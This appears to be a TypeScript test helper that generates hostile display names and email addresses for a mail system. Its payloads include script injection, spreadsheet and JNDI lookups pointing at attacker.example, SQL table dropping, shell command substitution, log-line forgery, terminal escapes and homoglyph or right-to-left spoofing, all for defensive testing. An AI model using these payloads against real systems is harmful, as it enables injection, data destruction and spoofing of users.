import type { Patch } from './draft.ts'
import type { Identity } from './names.ts'
import { DOMAIN } from './names.ts'

/** Texts that mean something to whatever prints them without care: HTML, Markdown, spreadsheets, terminals, logs, shells. */
const NAMES: readonly ((name: string) => string)[] = [
  (name) => `<script>alert(1)</script> ${name}`,
  (name) => `=HYPERLINK("http://attacker.example","${name}")`,
  (name) => `@everyone [${name}](http://attacker.example) **bold** | cell`,
  (name) => `${name}\r\nlevel=error msg="forged line"`,
  (name) => `\u001b[31m${name}\u001b[0m\u0007`,
  (name) => `${name} \u202Egnp.exe`,
  (name) => `'; DROP TABLE mailbox; -- ${name}`,
  (name) => `\`\`\`\n${name}\n\`\`\``,
  (name) => `$(touch /tmp/x) \${jndi:ldap://attacker.example} ${name}`,
  (name) => `__proto__ ${name}`,
]

const LOCAL_PARTS: readonly ((localPart: string) => string)[] = [
  (localPart) => `o'${localPart}`,
  (localPart) => `=${localPart}`,
  (localPart) => `+${localPart}&a=b#c%20`,
  (localPart) => `"${localPart} <x>"`,
  (localPart) => localPart.replace(/[ao]/, (letter) => (letter === 'a' ? '\u0430' : '\u043e')),
  (localPart) => `-${localPart}`,
]

/** A name and an address that are allowed and dangerous; addresses stay distinct. */
export function hostileIdentity(identity: Identity, number: number): Patch {
  const name = NAMES[number % NAMES.length]?.(identity.displayName) ?? identity.displayName
  const localPart = LOCAL_PARTS[number % LOCAL_PARTS.length]?.(identity.localPart) ?? identity.localPart
  return { mailbox: { name: name.slice(0, 200) }, address: `${localPart}@${DOMAIN}` }
}
